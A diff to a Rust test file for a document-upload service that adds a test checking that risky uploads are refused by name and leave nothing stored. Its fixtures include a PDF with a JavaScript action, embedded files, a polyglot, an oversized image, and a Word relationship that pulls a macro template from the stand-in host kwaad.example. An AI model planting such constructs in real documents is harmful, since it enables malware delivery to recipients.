@@ -1,6 +1,6 @@
 //! Files that are not kept: each is named with what to do, and nothing of its batch is stored.
 
-use super::{address, archive, assert_refused, attach, ids, on_disk, pdf, send_to, word};
+use super::{PHOTO, address, archive, assert_refused, attach, ids, on_disk, pdf, send_to, word};
 use crate::support::for_each_database;
 use crate::support::html;
 use crate::support::journey::BOARD;
@@ -30,6 +30,35 @@ async fn what_is_not_safe_to_keep_is_refused_by_name_and_leaves_no_trace() {
             ("half.pdf", b"%PDF-1.7\n1 0 obj <<", "“half.pdf” is beschadigd"),
             ("slot.pdf", b"%PDF-1.7\ntrailer << /Encrypt 5 0 R >>\n%%EOF", "“slot.pdf” is beveiligd"),
             ("iphone.heic", b"\0\0\0\x18ftypheic\0\0\0\0mif1heic", "“iphone.heic” is een foto die niet iedereen"),
+        ];
+        for (name, content, words) in files {
+            assert_refused(&site, &mut chair, &case, &[(name, content)], &[words, "Er is niets bewaard."]).await;
+        }
+    })
+    .await;
+}
+
+#[tokio::test]
+async fn what_acts_holds_more_or_is_not_whole_is_refused_by_name_and_leaves_no_trace() {
+    for_each_database(async |database| {
+        let site = Site::demo(&database).await;
+        let (case, mut chair) = (site.case("concept").await, site.browser_of(BOARD[0]).await);
+        let script = pdf("\n5 0 obj << /S /JavaScript /JS (app.alert\\(1\\)) >> endobj");
+        let carried = pdf("\n5 0 obj << /Type /EmbeddedFile >> endobj");
+        let template = "<Relationship Type=\"x/attachedTemplate\" Target=\"https://kwaad.example/a.dotm\" TargetMode=\"External\"/>";
+        let fetches = word(&[("word/_rels/settings.xml.rels", template.as_bytes())]);
+        let package = word(&[("word/embeddings/oleObject1.bin", &[0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1])]);
+        let two = [&pdf("twee"), &archive(&[("kwaad.js", b"x")])[..]].concat();
+        let mut flood = PHOTO.to_vec();
+        flood[18..22].fill(0xFF);
+        let files: [(&str, &[u8], &str); 7] = [
+            ("script.pdf", &script, "“script.pdf” doet meer dan een gewone PDF"),
+            ("pakket.pdf", &carried, "“pakket.pdf” heeft andere bestanden in zich"),
+            ("sjabloon.docx", &fetches, "“sjabloon.docx” haalt iets op"),
+            ("pakket.docx", &package, "“pakket.docx” heeft andere bestanden in zich"),
+            ("twee.pdf", &two, "“twee.pdf” is twee soorten bestanden in één"),
+            ("half.jpg", &PHOTO[..3], "“half.jpg” is beschadigd"),
+            ("veel.jpg", &flood, "“veel.jpg” is een afbeelding die te groot is"),
         ];
         for (name, content, words) in files {
             assert_refused(&site, &mut chair, &case, &[(name, content)], &[words, "Er is niets bewaard."]).await;
